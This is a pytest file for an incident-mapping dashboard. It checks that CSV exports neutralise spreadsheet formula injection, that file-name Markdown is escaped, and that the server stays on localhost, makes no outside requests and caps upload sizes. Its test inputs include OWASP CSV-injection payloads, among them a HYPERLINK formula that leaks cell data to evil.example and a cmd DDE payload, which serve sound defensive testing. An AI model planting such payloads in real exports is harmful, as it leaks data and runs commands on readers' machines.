"""What the dashboard and the exports expose: spreadsheet formulas in CSV cells, Markdown in
file names, the interfaces the server listens on, the requests it makes, the upload form
and its size cap, long unbroken text on the page, clicks on spread markers."""
from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from dashboard import data as D
import sample
from test_dashboard_app import said
from extract.model import Incident
from extract.output import write_incidents

REPO = Path(__file__).resolve().parent.parent

# the classic payloads (OWASP "CSV Injection"), and OWASP's two whitespace leaders
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"click")', "=cmd|' /C calc'!A0",
            "+1+1", "-2+3", "@SUM(1+1)", "\t=1+1", "\r=1+1"]


# ------------------------------------------------------------------ CSV formula injection

def incident(**fields) -> Incident:
    base = dict(doc="doc", place="Tartar", place_ar="ترتر", geonames_id="", lat=40.342,
                lon=-46.932, precision="district", event_type="shelling", claimant="az_mod",
                date="2020-10-08", date_basis="published", sentence="قصف ترتر")
    return Incident(**{**base, **fields})


def test_extract_csv_neutralises_formulas_and_keeps_negative_numbers():
    out = io.StringIO()
    write_incidents([incident(sentence=p, doc=p, place=p) for p in FORMULAS], out, "csv")
    rows = list(csv.DictReader(io.StringIO(out.getvalue(), newline="")))
    assert [r["sentence"] for r in rows] == ["'" + p for p in FORMULAS]
    assert [r["doc"] for r in rows] == ["'" + p for p in FORMULAS]
    assert all(r["lon"] == "-46.932" for r in rows)        # a number stays a number
    assert rows[0]["place_ar"] == "ترتر"                   # ordinary text untouched


def test_extract_command_line_csv_neutralises_a_file_name_formula(tmp_path):
    """`python -m extract DIR --format csv`: the doc cell comes from the file name."""
    name = "=2+5+cmd|'calc'!A0"       # (a file name has no slash)
    text = (REPO / "seeds" / "002_6cc9c1c7d50e6349.txt").read_bytes()
    (tmp_path / f"{name}.txt").write_bytes(text)
    proc = subprocess.run([sys.executable, "-m", "extract", str(tmp_path), "--format", "csv"],
                          cwd=REPO, capture_output=True, text=True, encoding="utf-8")
    assert proc.returncode == 0, proc.stderr
    rows = list(csv.DictReader(io.StringIO(proc.stdout)))
    assert rows and {r["doc"] for r in rows} == {"'" + name}


def test_dashboard_csv_neutralises_formulas_in_every_text_column():
    recs = sample.fixture_records()[:len(FORMULAS)]
    for r, p in zip(recs, FORMULAS):
        r.update(sentence=p, title=p, outlet=p, lon=-abs(r["lon"]))
    df = D.records_frame(recs)
    rows = list(csv.DictReader(io.StringIO(D.to_csv(df).decode("utf-8-sig"), newline="")))
    for col in ("sentence", "title", "outlet"):
        assert [r[col] for r in rows] == ["'" + p for p in FORMULAS], col
    assert all(float(r["lon"]) < 0 and not r["lon"].startswith("'") for r in rows)


# ------------------------------------------------------------------ Markdown in names

def test_markdown_literal_leaves_no_markdown():
    name = "![x](https:evil.example) **b** :red[c] $x$ <i>d</i> `e` [f](g).txt"
    out = D.markdown_literal(name)
    assert all(out[i - 1] == "\\" for i, c in enumerate(out)
               if c in "![]()*:$<>`." and (i == 0 or out[i - 1] != "\\"))
    assert out.replace("\\", "") == name.replace("\\", "")


# ------------------------------------------------------------------ the server as the README starts it

def listening_addresses(port: int) -> set[str]:
    """The local addresses of the sockets listening on `port` (the kernel's /proc/net/tcp*)."""
    import ipaddress
    found = set()
    for table, width in (("/proc/net/tcp", 8), ("/proc/net/tcp6", 32)):
        try:
            lines = Path(table).read_text().splitlines()[1:]
        except FileNotFoundError:
            continue
        for line in lines:
            local, state = line.split()[1], line.split()[3]
            addr, hexport = local.split(":")
            if state != "0A" or int(hexport, 16) != port:          # 0A: LISTEN
                continue
            raw = bytes.fromhex(addr)
            # the kernel prints each 32-bit word in host (little-endian) order
            raw = b"".join(raw[i:i + 4][::-1] for i in range(0, len(raw), 4))
            found.add(str(ipaddress.ip_address(raw)))
    return found


class Recorder:
    """A local HTTP proxy that only notes what it was asked for (and answers 502): with
    http(s)_proxy pointing at it, any request the server makes to another host lands here."""

    def __init__(self):
        import http.server
        import threading
        seen = self.seen = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def _note(self):
                seen.append(f"{self.command} {self.path}")
                self.send_response(502)
                self.end_headers()
            do_GET = do_POST = do_CONNECT = do_HEAD = _note

            def log_message(self, *args):
                pass

        self.httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.httpd.server_address[1]}"
        threading.Thread(target=self.httpd.serve_forever, daemon=True).start()

    def close(self):
        self.httpd.shutdown()


@pytest.fixture(scope="module")
def readme_server(tmp_path_factory):
    """`streamlit run dashboard/app.py` from the repository root, as the README says, on a
    machine without a display (headless); only the port is given, so that the config files
    decide the address. Every outgoing HTTP(S) request goes to a recording proxy."""
    import os
    import time
    import urllib.request

    from bench.page import free_port
    tmp = tmp_path_factory.mktemp("readme")
    db = tmp / "incidents.sqlite"
    sample.write_store(db, sample.fixture_records())
    proxy = Recorder()
    port = free_port()
    env = dict(os.environ, PYTHONPATH=str(REPO), http_proxy=proxy.url, https_proxy=proxy.url,
               HTTP_PROXY=proxy.url, HTTPS_PROXY=proxy.url, no_proxy="", NO_PROXY="",
               DISPLAY="")
    log = open(tmp / "streamlit.log", "w")
    proc = subprocess.Popen(
        [sys.executable, "-m", "streamlit", "run", "dashboard/app.py", "--server.headless",
         "true", "--server.port", str(port), "--server.fileWatcherType", "none",
         "--", "--db", str(db), "--tiles", "none"],
        cwd=REPO, env=env, stdout=log, stderr=subprocess.STDOUT)
    try:
        deadline = time.time() + 60
        while True:
            try:
                # the health check itself must not go through the proxy
                opener = urllib.request.build_opener(urllib.request.ProxyHandler({}))
                with opener.open(f"http://127.0.0.1:{port}/_stcore/health", timeout=2):
                    break
            except OSError:
                if proc.poll() is not None or time.time() > deadline:
                    raise RuntimeError((tmp / "streamlit.log").read_text())
                time.sleep(0.3)
        time.sleep(3)        # the start-up banner (and any address lookup) is done by now
        yield port, proxy, tmp / "streamlit.log"
    finally:
        proc.terminate()
        proc.wait(10)
        log.close()
        proxy.close()


def test_the_dashboard_listens_on_localhost_only(readme_server):
    port, _, _ = readme_server
    assert listening_addresses(port) == {"127.0.0.1"}


def test_the_dashboard_does_not_look_up_its_external_address(readme_server):
    _, proxy, log = readme_server
    assert not proxy.seen, proxy.seen                          # e.g. GET http://checkip...
    assert "External URL" not in log.read_text()


def test_both_config_files_say_the_same_and_cap_uploads_at_the_article_limit():
    import math
    import tomllib

    from extract.read import MAX_BYTES
    root, dash = (tomllib.loads((d / ".streamlit" / "config.toml").read_text())
                  for d in (REPO, REPO / "dashboard"))
    assert root == dash
    assert root["server"]["address"] == "127.0.0.1"
    assert root["browser"]["gatherUsageStats"] is False
    # Streamlit's unit is the megabyte of 2**20 bytes; the app refuses what lies between
    assert root["server"]["maxUploadSize"] == math.ceil(MAX_BYTES / 2**20)


# ------------------------------------------------------------------ in the browser

from bench.page import CHROMIUM, CHROMIUM_ARGS, map_frame, streamlit_on  # noqa: E402

browser_only = pytest.mark.skipif(not Path(CHROMIUM).exists(), reason=f"{CHROMIUM} is absent")

LONG_WORD = "ب" * 200_000
LONG_TITLE = "عنوان" * 1_000                      # 5,000 characters, no space


def long_text_record() -> dict:
    """An incident at a place of its own whose sentence is one 200,000-character word and
    whose article title is 5,000 characters without a space."""
    r = dict(sample.fixture_records()[0])
    r.update(doc="long_words", file_name="long_words.txt", article_id="long_words",
             place="Overflowville", place_id="overflowville", place_ar="ترتر", lat=40.9,
             lon=45.6, sentence="قصف ترتر " + LONG_WORD, title=LONG_TITLE, outlet="x" * 3000)
    return r


@pytest.fixture(scope="module")
def browser():
    from playwright.sync_api import sync_playwright
    with sync_playwright() as p:
        b = p.chromium.launch(executable_path=CHROMIUM, args=CHROMIUM_ARGS)
        yield b
        b.close()


@pytest.fixture
def page(browser):
    """A page that notes every request it makes (`page.requests`)."""
    p = browser.new_page(viewport={"width": 1400, "height": 1000})
    p.requests = []
    p.on("request", lambda r: p.requests.append(r.url))
    # a hostile page would reach a foreign host: answer nothing, but note the attempt
    p.route("**/*", lambda route: route.abort() if "127.0.0.1" not in route.request.url
            else route.continue_())
    yield p
    p.close()


def served(tmp_path, records, **env):
    import contextlib
    import os

    @contextlib.contextmanager
    def run():
        db = tmp_path / "incidents.sqlite"
        sample.write_store(db, records)
        old = {k: os.environ.get(k) for k in env}
        os.environ.update(env)
        try:
            with streamlit_on(db, tmp_path / "streamlit.log") as (url, _):
                yield url
        finally:
            for k, v in old.items():
                os.environ.pop(k) if v is None else os.environ.__setitem__(k, v)
    return run()


def open_add_tab(page, url):
    page.goto(url + "/")
    page.get_by_role("tab", name="Add articles").click(timeout=60000)


@browser_only
def test_an_uploaded_file_name_is_shown_as_written(tmp_path, page):
    name = "![x](https:evil.example).txt"
    text = (REPO / "seeds" / "002_6cc9c1c7d50e6349.txt").read_bytes()
    with served(tmp_path, sample.fixture_records()) as url:
        open_add_tab(page, url)
        page.locator(".st-key-up_files input[type='file']").set_input_files(
            [{"name": name, "mimeType": "text/plain", "buffer": text}])
        # the uploader shows the name cut in the middle: wait for its chip
        page.locator(".st-key-up_files [data-testid='stFileChip']").wait_for(timeout=30000)
        page.locator(".st-key-up_submit button").click()
        done = page.locator("[data-testid='stAlertContentSuccess']")
        done.wait_for(timeout=60000)
        page.wait_for_timeout(500)
        assert done.inner_text().strip() == f"{name}: added"
        assert not [u for u in page.requests if "evil.example" in u]


@browser_only
def test_with_uploads_off_the_page_has_no_upload_form(tmp_path, page):
    with served(tmp_path, sample.fixture_records(), INCIDENT_UPLOADS="off") as url:
        open_add_tab(page, url)
        page.get_by_text("Uploads are turned off").wait_for(timeout=60000)
        assert page.locator("input[type='file']").count() == 0
        assert page.locator(".st-key-up_submit").count() == 0


@browser_only
def test_the_upload_form_states_the_article_size_limit(tmp_path, page):
    """The uploader refuses, in the browser, a file over the cap the config sets."""
    with served(tmp_path, sample.fixture_records()) as url:
        open_add_tab(page, url)
        hint = page.locator(".st-key-up_files [data-testid='stFileUploaderDropzoneInstructions']")
        hint.wait_for(timeout=60000)
        assert hint.inner_text().startswith("5MB per file")


def test_an_upload_over_the_article_limit_is_refused_before_it_is_read(tmp_path, monkeypatch):
    from streamlit.testing.v1 import AppTest

    from extract.read import MAX_BYTES
    db = tmp_path / "up.sqlite"
    sample.write_store(db, sample.fixture_records())
    monkeypatch.setenv("INCIDENT_DB", str(db))
    monkeypatch.setenv("INCIDENT_TILES", "none")
    at = AppTest.from_file(str(REPO / "dashboard" / "app.py"), default_timeout=120).run()
    at.session_state["tab"] = "Add articles"
    at.run()
    at.file_uploader(key="up_files").set_value([("big.txt", b"a" * (MAX_BYTES + 1), "text/plain")])
    at.button(key="up_submit").click().run()
    assert not at.exception, at.exception
    errors = said(at.error)
    assert any("big.txt" in e and "larger than the article limit" in e
               and f"{MAX_BYTES:,}" in e for e in errors), errors


# ------------------------------------------------------------------ long words, spread markers

def test_long_text_goes_to_the_page_escaped_and_in_pieces():
    import html
    import re

    from dashboard.mapbuild import TEXT_PIECE, text_html
    text = "<b>" + "ب" * (2 * TEXT_PIECE)
    out = text_html(text)
    pieces = re.findall(r"<span>(.*?)</span>", out)
    assert len(pieces) == 3 and "<b>" not in out
    assert "".join(html.unescape(p) for p in pieces) == text
    assert text_html("<i>short</i>") == "&lt;i&gt;short&lt;/i&gt;"


def inside(box, outer, slack=1.0) -> bool:
    return (box["x"] >= outer["x"] - slack and
            box["x"] + box["width"] <= outer["x"] + outer["width"] + slack)


@browser_only
def test_long_unbroken_text_stays_inside_popups_tooltips_and_cards(tmp_path, page):
    with served(tmp_path, sample.fixture_records() + [long_text_record()]) as url:
        page.goto(url + "/?place=Overflowville&precise=0")
        check_long_text_stays_inside(page)


def check_long_text_stays_inside(page):
    frame = map_frame(page, 1, timeout=120)
    icon = frame.locator(".leaflet-marker-icon.inc-icon").first
    icon.wait_for()
    view = {"x": 0, "width": frame.evaluate("window.innerWidth")}
    icon.hover()
    tip = frame.locator(".leaflet-tooltip")
    tip.wait_for()
    assert inside(tip.bounding_box(), view)
    icon.click()
    popup = frame.locator(".leaflet-popup-content")
    popup.wait_for()
    assert inside(popup.bounding_box(), view)
    for part in (".inc-sentence", "table"):
        box = frame.locator(f".leaflet-popup-content {part}").first
        assert inside(box.bounding_box(), popup.bounding_box()), part
        assert box.evaluate("e => e.scrollWidth <= e.clientWidth + 1"), part
    # the first letters of the sentence are there, right to left
    assert frame.locator(".inc-sentence").inner_text().startswith("قصف ترتر")
    card = page.locator(".st-key-selected_place .inc-card").first
    card.wait_for(timeout=30000)
    panel = page.locator(".st-key-selected_place")
    assert inside(card.bounding_box(), panel.bounding_box())
    assert card.evaluate("e => e.scrollWidth <= e.clientWidth + 1")
    assert card.locator(".sentence").inner_text().startswith("قصف ترتر")
    cell = page.locator(".inc-read td.sent").first
    assert inside(cell.bounding_box(), page.locator(".inc-read").first.bounding_box())


def test_the_clicked_incident_is_read_from_its_tooltip():
    from dashboard.mapbuild import clicked_uid
    assert clicked_uid("Hadrut هادروت · 2020-10-09 · Capture #14") == 14
    assert clicked_uid("Hadrut · 2020-10-09") is None and clicked_uid(None) is None


@browser_only
def test_a_click_on_a_spread_marker_lists_the_incidents_of_its_place(tmp_path, page):
    """Hadrut has two incidents at one point: a click on the cluster spreads them, and a
    click on one of the spread markers lists both under the map (the marker's position, a
    few hundred metres off at this zoom, matched no incident)."""
    with served(tmp_path, sample.fixture_records()) as url:
        page.goto(url + "/")
        spread_and_click(page)


def spread_and_click(page):
    frame = map_frame(page)
    frame.evaluate("""() => {
        const layer = window.incidentLayer, map = layer._map;
        const m = layer.getLayers().find(l => l.getTooltip().getContent().includes('Hadrut'));
        // a zoom where the stack is alone but its spread markers lie far from its point
        map.setView(m.getLatLng(), 11, {animate: false});
    }""")
    frame.wait_for_function("""() => {           // the clusters of the new zoom are drawn
        const layer = window.incidentLayer;
        const m = layer.getLayers().find(l => l.getTooltip().getContent().includes('Hadrut'));
        const stack = layer.getVisibleParent(m);
        if (!stack || !stack._icon || stack.getChildCount() !== 2) return false;
        stack._icon.setAttribute('data-probe', '1');
        return true;
    }""", timeout=10000)
    page.wait_for_timeout(300)
    frame.locator(".inc-cluster-icon[data-probe='1']").click()
    frame.wait_for_function("document.querySelectorAll('.leaflet-marker-icon.inc-icon').length >= 2")
    page.wait_for_timeout(600)                       # the spreading animation ends
    # the later of the two: the list puts the incident clicked first, else the earlier
    spread = frame.evaluate("""() => {
        const legs = window.incidentLayer.getLayers().filter(l => l._preSpiderfyLatlng);
        legs.find(l => l.getTooltip().getContent().includes('2020-10-10'))
            ._icon.setAttribute('data-leg', '1');
        return legs.length;
    }""")
    assert spread == 2
    frame.locator(".inc-icon[data-leg='1']").click()
    # (a click on the stack itself may list them already, by its point: wait for the leg's)
    page.wait_for_function("""() => {
        const card = document.querySelector('.st-key-selected_place .inc-card');
        return card && card.innerText.includes('2020-10-10');
    }""", timeout=20000)
    panel = page.locator(".st-key-selected_place")
    assert "Hadrut: 2 reports here" in panel.inner_text()
